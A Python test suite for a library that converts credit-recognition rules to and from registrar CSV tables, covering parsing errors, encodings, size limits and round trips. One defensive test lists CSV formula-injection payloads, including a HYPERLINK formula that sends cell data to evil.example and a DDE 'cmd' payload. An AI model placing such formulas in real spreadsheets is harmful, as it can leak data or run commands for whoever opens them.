"""Rules from a registrar's table and back: every mistake with its cell, nothing guessed, nothing lost in silence."""

from __future__ import annotations

import codecs
import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as some
from tests.unit.agreements.test_reading import EXAMPLE, changed

from eccoe_vc.agreements.exchange import Imported, Loss, rules_from_csv, rules_to_csv, with_rules
from eccoe_vc.agreements.exchange.columns import COLUMNS, guarded, unguarded
from eccoe_vc.agreements.reading import read
from eccoe_vc.encoding import pointers
from eccoe_vc.errors import AgreementError, InputTypeError
from eccoe_vc.limits import Budget
from eccoe_vc.models.agreement import RecognitionAgreement
from eccoe_vc.models.rules import Rule

Row = dict[str, str]
ROW: Row = {
    "ruleId": "r1",
    "outcome": "full",
    "achievement": "https://a.example/achievements/soil",
    "targetKind": "course",
    "course": "https://b.example/courses/SOIL100",
    "credit": "3",
}
AGREEMENT = read(EXAMPLE)


def written(*rows: Row, separator: str = ",", end: str = "\r\n") -> str:
    """A table as a spreadsheet writes it: the columns of all rows, in the order in which they first stand."""
    names = list(dict.fromkeys(name for row in rows for name in row))
    text = io.StringIO(newline="")
    lines = csv.writer(text, delimiter=separator, lineterminator=end)
    lines.writerows([names, *([row.get(name, "") for name in names] for row in rows)])
    return text.getvalue()


def faults(data: Any, **options: Any) -> list[tuple[str, str]]:
    with pytest.raises(AgreementError) as caught:
        rules_from_csv(data, **options)
    return [(finding.code, finding.pointer) for finding in caught.value.findings]


def trees(imported: Imported) -> list[Any]:
    return [rule.to_json() for rule in imported.rules]


def only(row: Row) -> Any:
    (tree,) = trees(rules_from_csv(written(row)))
    return tree


# ---- what a row says -------------------------------------------------------------------------------------------------


def test_a_row_is_a_rule() -> None:
    assert only(ROW) == {
        "ruleId": "r1",
        "outcome": "full",
        "source": {"achievement": "https://a.example/achievements/soil"},
        "target": [{"kind": "course", "course": "https://b.example/courses/SOIL100", "credit": {"fixed": "3"}}],
    }


def test_every_column_says_one_member() -> None:
    """By hand, member by member of recognition, section 4.3; three rows, because one cannot hold everything."""
    first = {
        **ROW, "title": "Soil", "note": "seen", "priority": "10", "from": "did:web:awarding.example",
        "to": "did:web:recognising.example", "programme": "https://b.example/p/1|https://b.example/p/2",
        "category": "free | mooc", "version": "1.0|1.1", "gradeScale": "ES-0-10", "gradeAtLeast": "5",
        "gradeBelow": "9", "creditMin": "2", "creditMax": "4.5", "eqfMin": "6", "eqfMax": "7",
        "targetGrade": "converted", "conversion": "gc-0231", "startDate": "2026-01-31", "endDate": "2026-12-31",
        "review": "none",
    }  # fmt: skip
    assert only(first) == {
        "ruleId": "r1",
        "title": {"en": "Soil"},
        "note": {"en": "seen"},
        "priority": "10",
        "outcome": "full",
        "from": ["did:web:awarding.example"],
        "to": ["did:web:recognising.example"],
        "programme": ["https://b.example/p/1", "https://b.example/p/2"],
        "category": ["free", "mooc"],
        "source": {"achievement": "https://a.example/achievements/soil", "version": ["1.0", "1.1"]},
        "condition": {
            "grade": {"scale": "ES-0-10", "atLeast": "5", "below": "9"},
            "credit": {"min": "2", "max": "4.5"},
            "eqfLevel": {"min": "6", "max": "7"},
        },
        "target": [
            {
                "kind": "course",
                "course": "https://b.example/courses/SOIL100",
                "credit": {"fixed": "3"},
                "grade": "converted",
                "conversion": "gc-0231",
            }
        ],
        "review": {"mode": "none"},
        "period": {"startDate": "2026-01-31", "endDate": "2026-12-31"},
    }
    second = {
        "ruleId": "r2", "outcome": "partial", "identifierScheme": "ext:Code", "identifier": "SOIL-1",
        "targetKind": "elective", "bucket": "free", "ratio": "2/3", "ratioMax": "4",
    }  # fmt: skip
    assert only(second) == {
        "ruleId": "r2",
        "outcome": "partial",
        "source": {"identifier": {"scheme": "ext:Code", "value": "SOIL-1"}},
        "target": [{"kind": "elective", "bucket": "free", "credit": {"ratio": "2/3", "max": "4"}}],
    }
    third = {"ruleId": "r3", "outcome": "refused", "achievement": "https://a.example/x", "targetKind": "none",
             "note": "Below the level."}  # fmt: skip
    assert only({**third, "ground": "level|age"})["ground"] == ["level", "age"]
    words = {"conditionText", "alsoAchievement"}
    assert {column.name for column in COLUMNS} == {*first, *second, *third, "ground", *words}, "each is tested"


def test_several_achievements_are_all_needed() -> None:
    tree = only({**ROW, "alsoAchievement": "https://a.example/two| https://a.example/three"})
    names = ["https://a.example/achievements/soil", "https://a.example/two", "https://a.example/three"]
    assert tree["source"] == {"allOf": [{"achievement": name} for name in names]}


def test_a_condition_in_words_is_kept_and_asked_of_a_person() -> None:
    made = rules_from_csv(written(ROW | {"conditionText": "only with a laboratory"}))
    assert made.rules[0].note == {"en": "only with a laboratory"}
    assert made.rules[0].review is not None
    assert made.rules[0].review.mode == "manual"
    assert [(loss.code, loss.pointer, loss.kept_in) for loss in made.losses] == [
        ("rule.free_text", "/2/conditionText", "/rule/0/note")
    ]


def test_a_condition_beside_a_note_stands_in_the_review() -> None:
    made = rules_from_csv(written(ROW | {"conditionText": "C or better", "note": "old form"}), language="de")
    assert made.rules[0].to_json()["review"] == {"mode": "manual", "text": {"de": "C or better"}}
    assert made.rules[0].note == {"de": "old form"}
    assert made.losses[0].kept_in == "/rule/0/review/text"


def test_a_note_alone_conditions_nothing() -> None:
    made = rules_from_csv(written(ROW | {"note": "grade must be C or better"}))
    assert made.rules[0].review is None
    assert made.losses == ()


def test_a_condition_that_nobody_reviews_is_refused() -> None:
    row = ROW | {"conditionText": "C or better", "review": "none"}
    assert faults(written(row)) == [("rule.syntax", "/2/review")]


# ---- how registrars save ---------------------------------------------------------------------------------------------

UMLAUT = written(ROW | {"title": "Böden"})


@pytest.mark.parametrize(
    ("data", "form"),
    [
        (UMLAUT.encode(), "utf-8, comma"),
        (codecs.BOM_UTF8 + UMLAUT.encode(), "utf-8, comma"),
        (codecs.BOM_UTF16_LE + UMLAUT.encode("utf-16-le"), "utf-16-le, comma"),
        (codecs.BOM_UTF16_BE + UMLAUT.encode("utf-16-be"), "utf-16-be, comma"),
        (UMLAUT, "text, comma"),
        ("\ufeff" + UMLAUT, "text, comma"),
        (written(ROW | {"title": "Böden"}, separator=";").encode(), "utf-8, semicolon"),
        (written(ROW | {"title": "Böden"}, separator="\t", end="\n").encode(), "utf-8, tab"),
        (written(ROW | {"title": "Böden"}, end="\r").encode(), "utf-8, comma"),
        (UMLAUT.removesuffix("\r\n"), "text, comma"),
        (UMLAUT + "\r\n,,,,,,\r\n\r\n", "text, comma"),
        (UMLAUT.replace("\r\n", ",,,\r\n"), "text, comma"),
    ],
)
def test_the_ways_in_which_spreadsheets_save(data: bytes | str, form: str) -> None:
    made = rules_from_csv(data)
    assert made.form == form
    assert trees(made) == [only(ROW) | {"title": {"en": "Böden"}}]


def test_rows_are_counted_as_a_spreadsheet_counts_them() -> None:
    rows = [ROW | {"title": "two\r\nlines, and a third\n"}, {}, ROW | {"ruleId": "r3", "credit": "x"}]
    assert faults(written(*rows)) == [("rule.syntax", "/4/credit")]
    rows[2]["credit"] = "5"
    made = rules_from_csv(written(*rows))
    assert made.places == ("row 2", "row 4")
    assert made.rules[0].title == {"en": "two\r\nlines, and a third"}


@pytest.mark.parametrize(
    "data",
    [
        b"",
        "",
        "ruleId\r\nr1\r\n",
        "ruleId,outcome;achievement\r\n",
        "sep=;\r\nruleId;outcome\r\n",
        "\r\n" + UMLAUT,
        UMLAUT.encode("cp1252"),
        UMLAUT.encode("utf-16-le"),
        UMLAUT.encode("utf-32"),
        '"ruleId","outcome"\r\n"open',
        '"ruleId,outcome\r\nr1,full\r\n',
        written(ROW) + '"a"b,c\r\n',
        written(ROW) + '"never closed,',
        written(ROW).split("\r\n", maxsplit=1)[0],
        b"\xff\xfe\x00",
        b"\xef\xbb\xbf",
        b"\x89PNG\r\n\x1a\n",
        b"PK\x03\x04" + bytes(100),
    ],
)
def test_what_is_no_such_table_is_refused(data: bytes | str) -> None:
    assert {code for code, _ in faults(data)} == {"rule.syntax"}


@pytest.mark.parametrize("names", [",;", "ruleId,outcome;achievement", "a\tb;c,d", ";;,"])
def test_a_header_that_two_separators_part_is_not_guessed(names: str) -> None:
    with pytest.raises(AgreementError, match="more than one separator"):
        rules_from_csv(f"{names}\r\n")


@pytest.mark.parametrize("data", [None, 5, ["ruleId"], object(), memoryview(b"a")])
def test_what_is_no_text_is_a_mistake_of_the_caller(data: Any) -> None:
    with pytest.raises(InputTypeError):
        rules_from_csv(data)


@pytest.mark.parametrize("language", ["", "e", "en us", None, 7])
def test_a_language_is_a_tag(language: Any) -> None:
    with pytest.raises(InputTypeError):
        rules_from_csv(written(ROW), language=language)
    with pytest.raises(InputTypeError):
        rules_to_csv(AGREEMENT, language=language)


# ---- every mistake with its cell -------------------------------------------------------------------------------------

MISTAKES: dict[str, tuple[Row, str, str, str]] = {
    "decimal comma": ({"credit": "7,5"}, "rule.syntax", "credit", "7.5"),
    "thousands": ({"credit": "1 000"}, "rule.syntax", "credit", ""),
    "negative": ({"credit": "-3"}, "rule.syntax", "credit", ""),
    "too much": ({"credit": "10001"}, "rule.factor", "credit", ""),
    "exponent": ({"credit": "3E0"}, "rule.syntax", "credit", ""),
    "other digits": ({"credit": "\u0663"}, "rule.syntax", "credit", ""),
    "ratio zero": ({"credit": "", "ratio": "0"}, "rule.factor", "ratio", ""),
    "ratio comma": ({"credit": "", "ratio": "0,5"}, "rule.syntax", "ratio", "0.5"),
    "both amounts": ({"ratio": "1"}, "rule.syntax", "credit", ""),
    "no amount": ({"credit": ""}, "rule.syntax", "targetKind", ""),
    "day": ({"startDate": "31.01.2026"}, "rule.syntax", "startDate", "2026-01-31"),
    "no such day": ({"endDate": "2026-02-30"}, "rule.syntax", "endDate", "2026-01-31"),
    "days in disorder": ({"startDate": "2026-02-01", "endDate": "2026-01-01"}, "rule.syntax", "startDate", ""),
    "no rule id": ({"ruleId": ""}, "rule.syntax", "ruleId", ""),
    "rule id": ({"ruleId": "r 1"}, "rule.syntax", "ruleId", ""),
    "outcome": ({"outcome": "Full"}, "rule.syntax", "outcome", ""),
    "no outcome": ({"outcome": ""}, "rule.syntax", "outcome", ""),
    "kind": ({"targetKind": "Course"}, "rule.syntax", "targetKind", ""),
    "no kind": ({"targetKind": ""}, "rule.syntax", "targetKind", ""),
    "no source": ({"achievement": ""}, "rule.syntax", "achievement", ""),
    "no id": ({"achievement": "Soil Science"}, "rule.syntax", "achievement", ""),
    "also no id": ({"alsoAchievement": "https://a.example/2|"}, "rule.syntax", "alsoAchievement", ""),
    "two sources": ({"identifierScheme": "x", "identifier": "y"}, "rule.syntax", "achievement", ""),
    "no scheme": ({"achievement": "", "identifier": "y"}, "rule.syntax", "identifierScheme", ""),
    "no identifier": ({"achievement": "", "identifierScheme": "y"}, "rule.syntax", "identifier", ""),
    "no scale": ({"gradeAtLeast": "5"}, "rule.syntax", "gradeScale", ""),
    "level": ({"eqfMin": "six"}, "rule.syntax", "eqfMin", ""),
    "priority": ({"priority": "1.5"}, "rule.syntax", "priority", ""),
    "no ground": (
        {"outcome": "refused", "targetKind": "none", "course": "", "credit": "", "note": "No."},
        "rule.refusal_bundle", "", "",
    ),
    "ground": ({"ground": "because"}, "rule.syntax", "ground", ""),
    "party": ({"from": "University A"}, "rule.syntax", "from", ""),
    "review": ({"review": "maybe"}, "rule.syntax", "review", ""),
    "version of a bundle": (
        {"alsoAchievement": "https://a.example/2", "version": "1"},
        "rule.syntax", "achievement", "",
    ),
    "long note": ({"note": "x" * 1001}, "rule.syntax", "note", ""),
    "long words": ({"conditionText": "x" * 1001}, "rule.syntax", "conditionText", ""),
    "long cell": ({"note": "x" * 40_000}, "rule.budget", "note", ""),
    "surrogate": ({"title": "\ud800"}, "rule.syntax", "title", ""),
}  # fmt: skip


@pytest.mark.parametrize("case", MISTAKES.values(), ids=MISTAKES)
def test_a_mistake_names_its_row_and_column(case: tuple[Row, str, str, str]) -> None:
    change, code, column, advice = case
    with pytest.raises(AgreementError) as caught:
        rules_from_csv(written(ROW | {"ruleId": "r0"}, ROW | change))
    (finding,) = caught.value.findings
    assert finding.code == code
    assert finding.pointer == ("/3" + (f"/{column}" if column else ""))
    assert finding.message.startswith(f"Row 3, column {column}: " if column else "Row 3: ")
    assert advice in finding.hint
    assert "quotes" not in finding.message


def test_all_mistakes_are_told_at_once() -> None:
    rows = [ROW | {"credit": "7,5", "outcome": "ful"}, ROW, ROW, ROW | {"ruleId": "r4", "targetKind": "corse"}]
    assert faults(written(*rows)) == [
        ("rule.syntax", "/2/outcome"),
        ("rule.syntax", "/2/credit"),
        ("rule.syntax", "/4/ruleId"),
        ("rule.syntax", "/5/targetKind"),
    ]


def test_a_row_that_cannot_be_read_does_not_hide_the_others() -> None:
    text = written(ROW | {"credit": "7,5"}) + '"a"b,c\r\n'
    assert faults(text) == [("rule.syntax", "/2/credit"), ("rule.syntax", "/3")]


def test_a_column_that_is_not_known_is_refused_with_a_near_name() -> None:
    with pytest.raises(AgreementError) as caught:
        rules_from_csv(written(ROW | {"startdate": "2026-01-01", "teacher": "N", "credit": "x"}))
    assert [(f.pointer, f.hint) for f in caught.value.findings[:2]] == [
        ("/1/startdate", "Did you mean startDate?"),
        ("/1/teacher", "Take the column out, or name it as documented."),
    ]
    assert caught.value.findings[2].pointer == "/2/credit", "the rows are read all the same"


def test_a_column_that_stands_twice_or_is_missing_is_refused() -> None:
    assert faults("ruleId,outcome,targetKind,ruleId,achievement\r\n") == [("rule.syntax", "/1/ruleId")]
    assert faults("ruleId,credit\r\nr1,3\r\n") == [
        ("rule.syntax", "/1/outcome"),
        ("rule.syntax", "/1/targetKind"),
        ("rule.syntax", "/1/achievement"),
    ]


def test_a_cell_below_no_name_is_refused() -> None:
    names, row = written(ROW).split("\r\n")[:2]
    assert faults(f"{names}\r\n{row},stray\r\n") == [("rule.syntax", "/2")]


def test_the_number_of_rules_is_bounded() -> None:
    rows = [ROW | {"ruleId": f"r{index}"} for index in range(4)]
    assert faults(written(*rows), budget=Budget().with_(rules=3)) == [("rule.budget", "/5")]
    assert len(rules_from_csv(written(*rows), budget=Budget().with_(rules=4)).rules) == 4


def test_rows_without_text_are_bounded_too() -> None:
    assert faults(written(ROW) + "\n" * 1_048_575) == [("rule.budget", "/1048577")]


def test_a_table_has_a_largest_size() -> None:
    assert faults(b" " * (64 * 1_048_576 + 1)) == [("rule.budget", "")]
    assert faults(written(ROW).replace("\r", "," * 251 + "x\r", 1)) == [("rule.budget", "")]


def test_ten_thousand_mistakes_are_cut_off() -> None:
    text = written(ROW) + "r2,,,,,\r\n" * 9_000
    assert len(faults(text)) == 1_000


# ---- into an agreement -----------------------------------------------------------------------------------------------


def test_imported_rules_stand_in_a_draft() -> None:
    draft = with_rules(AGREEMENT, rules_from_csv(written(ROW | {"gradeScale": "ES-0-10", "gradeAtLeast": "5"})))
    assert read(draft.to_json()) == draft
    assert [rule.rule_id for rule in draft.rule] == ["r1"]


def test_what_a_rule_refers_to_must_be_there_and_its_row_is_named() -> None:
    made = rules_from_csv(written(ROW, ROW | {"ruleId": "r2", "gradeScale": "UK"}))
    with pytest.raises(AgreementError) as caught:
        with_rules(AGREEMENT, made)
    (finding,) = caught.value.findings
    assert (finding.code, finding.pointer) == ("rule.reference", "/rule/1/condition/grade/scale")
    assert finding.message.startswith("Row 3: ")


def test_a_draft_needs_rules() -> None:
    with pytest.raises(AgreementError) as caught:
        with_rules(AGREEMENT, Imported((), ()))
    assert caught.value.code == "rule.syntax"
    for wrong in ((AGREEMENT, None), (EXAMPLE, Imported((), ()))):
        with pytest.raises(InputTypeError):
            with_rules(*wrong)


# ---- out -------------------------------------------------------------------------------------------------------------


def test_the_example_of_the_domain_loses_what_no_column_says() -> None:
    """r2 takes two of three and r3 any award of a party; the others are one to one."""
    text, losses = rules_to_csv(AGREEMENT)
    again = rules_from_csv(text)
    assert trees(again) == [EXAMPLE["rule"][index] for index in (0, 3, 4)]
    assert {loss.pointer for loss in losses} == {
        "/rule/1/source/of",
        "/rule/1/source/kOf",
        "/rule/1/source/minCredit",
        "/rule/2/source/anyFrom",
        "/rule/2/source/thematicArea",
        "/rule/2/maxUse",
    }


def test_texts_in_other_languages_are_lost_and_named() -> None:
    def translate(tree: Any) -> None:
        tree["rule"] = [tree["rule"][0] | {"title": {"en": "English", "de": "Englisch"}, "note": {"de": "Hinweis"}}]

    text, losses = rules_to_csv(read(changed(translate)))
    assert [loss.pointer for loss in losses] == ["/rule/0/title/de", "/rule/0/note"]
    (tree,) = trees(rules_from_csv(text))
    assert tree["title"] == {"en": "English"}
    german, losses = rules_to_csv(read(changed(translate)), language="de")
    assert "Hinweis" in german
    assert [loss.pointer for loss in losses] == ["/rule/0/title/en"]


def test_the_words_of_a_review_without_a_note_change_their_place_and_are_named() -> None:
    def ask(tree: Any) -> None:
        tree["rule"] = [tree["rule"][0] | {"review": {"mode": "manual", "text": {"en": "ask the department"}}}]

    text, losses = rules_to_csv(read(changed(ask)))
    assert losses == (Loss("/rule/0/review/text", losses[0].what, "conditionText"),)
    assert rules_from_csv(text).rules[0].note == {"en": "ask the department"}


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_other_separators(separator: str) -> None:
    text = rules_to_csv(AGREEMENT, separator=separator).text
    assert trees(rules_from_csv(text)) == trees(rules_from_csv(rules_to_csv(AGREEMENT).text))


@pytest.mark.parametrize("separator", ["|", "", ",,", "\n", None, 5])
def test_no_other_separators(separator: Any) -> None:
    with pytest.raises(InputTypeError):
        rules_to_csv(AGREEMENT, separator=separator)
    with pytest.raises(InputTypeError):
        rules_to_csv(EXAMPLE)  # type: ignore[arg-type]


# Attack corpus K35, variant formula: cells that a spreadsheet would run. The beginnings are those of OWASP, CSV
# Injection: equals, plus, minus, at, tab, carriage return, line feed, and the first four in full width.
FORMULAS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"]


@pytest.mark.attack("K35", "formula")
@pytest.mark.parametrize("text", [*FORMULAS, '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|'/c calc'!A0"])
def test_no_exported_cell_is_a_formula(text: str) -> None:
    def attack(tree: Any) -> None:
        tree["rule"] = [tree["rule"][0] | {"title": {"en": text}, "note": {"en": f"'{text}"}}]

    made, losses = rules_to_csv(read(changed(attack)))
    cells = [cell for row in csv.reader(io.StringIO(made, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple(form[0] for form in FORMULAS))]
    assert losses == ()
    (rule,) = rules_from_csv(made).rules
    assert rule.title == {"en": text}
    assert rule.note == {"en": f"'{text}"}


@pytest.mark.parametrize("key", ["a|b", " a", "a\n", "a|", "\t=1", "a\0"])
def test_a_key_that_a_list_of_values_cannot_hold_keeps_its_rule_out(key: str) -> None:
    made, losses = rules_to_csv(read(changed(lambda tree: tree["rule"][4].update(category=[key]))))
    assert any(loss.pointer.startswith("/rule/4/category") for loss in losses)
    assert "r5" not in [rule.rule_id for rule in rules_from_csv(made).rules]


@given(some.text(alphabet="'=+-@\t\r\n\uff1dab ", max_size=8))
def test_a_guard_is_taken_away_again_and_leaves_no_formula(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))


# ---- the law ---------------------------------------------------------------------------------------------------------

odd = some.text(alphabet="=+-@'\"|,;\t\r\n ab\u00e9\u00a0\x1c\x85\u2028\ufeff\x00", min_size=1, max_size=12)
keys = some.sampled_from(["free", "mooc", "a b", "-x", "x|y", " x", "'=1", 'a"b']) | odd
iris = some.sampled_from(
    [f"https://a.example/{name}" for name in ("1", "2", "3", "a,b;c", "'=1")] + ["did:web:x.example"]
)
texts = some.dictionaries(some.sampled_from(["en", "de"]), odd, min_size=1, max_size=2)
leaf = some.fixed_dictionaries({"achievement": iris}, optional={"version": some.lists(keys, min_size=1, max_size=2)})
plain_leaf = some.fixed_dictionaries({"achievement": iris})
source = some.one_of(
    leaf,
    some.fixed_dictionaries({"identifier": some.fixed_dictionaries({"scheme": keys, "value": keys})}),
    some.lists(plain_leaf, min_size=1, max_size=3).map(lambda parts: {"allOf": parts}),
    some.lists(leaf, min_size=1, max_size=2).map(lambda parts: {"anyOf": parts}),
    some.fixed_dictionaries({"alignment": iris}),
)
amount = some.sampled_from([{"fixed": "3"}, {"fixed": "7.50"}, {"ratio": "2/3"}, {"ratio": "1", "max": "4"}])
course = some.fixed_dictionaries(
    {"kind": some.just("course"), "course": iris, "credit": amount},
    optional={"grade": some.sampled_from(["none", "pass", "original"])},
)
target = some.one_of(
    course,
    some.fixed_dictionaries({"kind": some.just("elective"), "bucket": keys, "credit": amount}),
    some.fixed_dictionaries({"kind": some.just("exemption"), "course": iris}),
    some.just({"kind": "none"}),
)
condition = some.fixed_dictionaries(
    {},
    optional={
        "grade": some.fixed_dictionaries({"scale": keys}, optional={"atLeast": keys, "below": keys}),
        "credit": some.fixed_dictionaries({}, optional={"min": some.just("2"), "max": some.just("5.0")}),
        "eqfLevel": some.fixed_dictionaries({}, optional={"min": some.just("6"), "multi": some.just("any")}),
        "maxAge": some.just({"period": "P5Y"}),
    },
)
review = some.fixed_dictionaries(
    {"mode": some.sampled_from(["none", "manual", "conditional"])}, optional={"text": texts}
)
period = some.fixed_dictionaries(
    {}, optional={"startDate": some.just("2026-01-01"), "endDate": some.just("2026-12-31")}
)
rule_trees = some.fixed_dictionaries(
    {
        "outcome": some.sampled_from(["full", "partial", "conditional", "manualReview"]),
        "source": source,
        "target": some.lists(target, min_size=1, max_size=2),
    },
    optional={
        "title": texts,
        "note": texts,
        "priority": some.sampled_from(["0", "10"]),
        "from": some.lists(iris, min_size=1, max_size=2),
        "programme": some.lists(iris, min_size=1, max_size=2),
        "category": some.lists(keys, min_size=1, max_size=2),
        "condition": condition,
        "review": review,
        "period": period,
        "ground": some.just(["level"]),
        "reusable": some.booleans(),
        "maxUse": some.just("1"),
    },
)


def agreement_of(found: list[dict[str, Any]]) -> RecognitionAgreement:
    rules = [Rule.model_validate({"ruleId": f"r{index}", **tree}, by_alias=True) for index, tree in enumerate(found)]
    return AGREEMENT.with_(rule=tuple(rules))


@given(
    some.lists(rule_trees, min_size=1, max_size=4),
    some.sampled_from(list(",;\t")),
    some.sampled_from(["utf-8", "utf-8-sig", "utf-16"]),
)
def test_reading_what_was_written_gives_the_rules_again(found: list[Any], separator: str, encoding: str) -> None:
    """Rules of which nothing was lost come back; the others are named, and not there or shorter by a text."""
    agreement = agreement_of(found)
    text, losses = rules_to_csv(agreement, separator=separator)
    lossy = {pointers.split(loss.pointer)[1] for loss in losses}
    whole = [rule.to_json() for index, rule in enumerate(agreement.rule) if str(index) not in lossy]
    try:
        again = trees(rules_from_csv(text.encode(encoding)))
    except AgreementError as error:
        assert error.message == "The table has no rule below its first row."
        again = []
    by_id = {tree["ruleId"]: tree for tree in again}
    assert [by_id.get(tree["ruleId"]) for tree in whole] == whole
    for tree in again:  # what is there in spite of a loss decides the same
        (original,) = [rule.to_json() for rule in agreement.rule if rule.rule_id == tree["ruleId"]]
        for made in (tree, original):
            made.pop("title", None)
            made.pop("note", None)
            made.get("review", {}).pop("text", None)
        assert tree == original


@given(some.binary(max_size=200) | some.text(max_size=200))
def test_whatever_is_handed_in_is_read_or_refused_with_a_code(data: bytes | str) -> None:
    try:
        rules_from_csv(data)
    except AgreementError as error:
        assert error.findings


@given(some.lists(some.lists(odd | some.sampled_from([column.name for column in COLUMNS]), max_size=6), max_size=5))
def test_whatever_stands_in_cells_is_read_or_refused_with_a_code(rows: list[list[str]]) -> None:
    text = io.StringIO(newline="")
    csv.writer(text).writerows([list(ROW), *rows])
    try:
        rules_from_csv(text.getvalue())
    except AgreementError as error:
        assert all(finding.code.startswith("rule.") for finding in error.findings)
